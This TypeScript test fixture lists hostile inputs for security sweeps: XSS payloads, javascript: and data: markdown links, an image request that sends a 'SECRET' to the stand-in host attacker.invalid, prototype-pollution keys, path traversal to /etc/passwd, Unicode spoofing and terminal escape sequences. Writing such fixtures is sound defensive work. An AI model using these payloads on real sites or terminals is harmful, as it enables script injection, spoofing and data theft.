import { readFileSync } from 'node:fs';
import { join } from 'node:path';

/** What a payload calls when it runs: the sweeps look for it, and for dialogs. */
const CANARY = 'parent.__pwned=1,window.__pwned=1';
/** Never resolves: a request to it is one that a session has caused. */
const ELSEWHERE = 'https://attacker.invalid';

/** Texts that do something where they are taken for more than text: a few of each class. */
export const HOSTILE_TEXTS: readonly string[] = [
  // Elements
  `<img src=x onerror="${CANARY}">`,
  `"><svg onload=${CANARY}>`,
  `'"></title></textarea></style></script><script>${CANARY}</script>`,
  `<iframe srcdoc="<script>${CANARY}</script>">`,
  `<details open ontoggle="${CANARY}"><summary>more</summary></details>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=${CANARY}>">`,
  `<style>@import '${ELSEWHERE}/x.css'; * { background: url(${ELSEWHERE}/x) }</style>`,
  `<base href="${ELSEWHERE}/"><meta http-equiv="refresh" content="0; url=${ELSEWHERE}">`,
  `<form action="${ELSEWHERE}"><input name=attributes autofocus onfocus="${CANARY}"><button>Play</button></form>`,
  `<a id=reprise name=reprise class=reprise slot=actions part=title style="position:fixed">x</a>`,
  // Templates and handlers
  `\${${CANARY}} {{constructor.constructor('${CANARY}')()}} <?lit$1234$?> <!--?lit$-->`,
  `" onmouseover="${CANARY}" x="`,
  `javascript:${CANARY}//`,
  // Links, pictures
  `[click](javascript:${CANARY})`,
  `[click](data:text/html,<script>${CANARY}</script>)`,
  `[a]: javascript:${CANARY}\n\n[a] [b](vbscript:x) <javascript:${CANARY}>`,
  `![${ELSEWHERE}](${ELSEWHERE}/x.png?d=SECRET "title") ![x](javascript:${CANARY})`,
  `[https://github.com](${ELSEWHERE}/login)`,
  `[bank](https://github.com@attacker.invalid/) https://аpple.com/ http://[::1]:22/`,
  `java\tscript:${CANARY} \u0001javascript:${CANARY} JaVaScRiPt&colon;${CANARY}`,
  `blob:${ELSEWHERE}/x file:///etc/passwd ftp://${ELSEWHERE}/ //attacker.invalid/x`,
  // Code
  `\`\`\`html\n<script>${CANARY}</script>\n\`\`\`\n\`\`\`" onload="${CANARY}\nx\n\`\`\``,
  `~~~mermaid\nclick A "javascript:${CANARY}"\n~~~`,
  `| a | <img src=x onerror=${CANARY}> |\n|---|---|\n| [x](javascript:${CANARY}) | b |`,
  // Names that objects have
  '__proto__',
  'constructor',
  'hasOwnProperty',
  '{"__proto__":{"polluted":1}}',
  // Paths
  '../../../etc/passwd',
  'C:\\Windows\\..\\x\u0000.txt',
  'CON',
  // Patches
  '@@ -1,99999999 +1,99999999 @@\n-a\n+b\n--- a/x\n+++ b/y',
  'diff --git a/<b> b/<b>\n@@ -0,0 +0,0 @@ <img src=x onerror=1>',
  // Deceptive characters
  'safe\u202etxt.exe\u202c',
  'pay\u200bpal\u2066\u2069\ufeff',
  'tag\u{e0041}\u{e0042}s',
  'c0 \u0007\u0008\u007f c1 \u0085\u009b',
  'раypal.com',
  // Terminals
  '\x1b]0;owned\x07\x1b]2;owned\x1b\\',
  `\x1b]52;c;b3duZWQ=\x07\x1b]8;;javascript:${CANARY}\x07click\x1b]8;;\x07`,
  `\x1b]8;;${ELSEWHERE}/x\x1b\\link\x1b]8;;\x1b\\ \x1b[c\x1b[6n\x1b[18t\x1b[8;9999;9999t`,
  `\x1b]1337;File=inline=1:${'A'.repeat(40)}\x07\x1bPq#0;2;0;0;0~~\x1b\\\x1b_Gf=24;AAAA\x1b\\`,
  '\x1b]9;owned\x07\x1b]777;notify;owned;owned\x07\x1b[5i\x1b[2J\x1b[999999999b',
  // Long ones
  'x'.repeat(5000),
  '('.repeat(400),
  '> '.repeat(300),
  '\u0301'.repeat(300),
];

/** The payloads of the folder of hostile inputs, each once. */
export function hostilePayloads(folder: string): string[] {
  const linesOf = (path: string): Record<string, string>[] =>
    readFileSync(join(folder, path), 'utf8')
      .split('\n')
      .filter(Boolean)
      .map((line) => JSON.parse(line) as Record<string, string>);
  const texts = [
    ...linesOf('xss/text-sinks.ndjson').map(({ text }) => text),
    ...linesOf('xss/html-payloads.ndjson').map(({ html }) => html),
    ...linesOf('xss/markdown.ndjson').map(({ md }) => md),
    ...linesOf('xss/urls.ndjson').map(({ url }) => url),
    ...linesOf('export/break-out.ndjson').map(({ text }) => text),
  ];
  return [...new Set(texts.filter((text) => text !== undefined))];
}
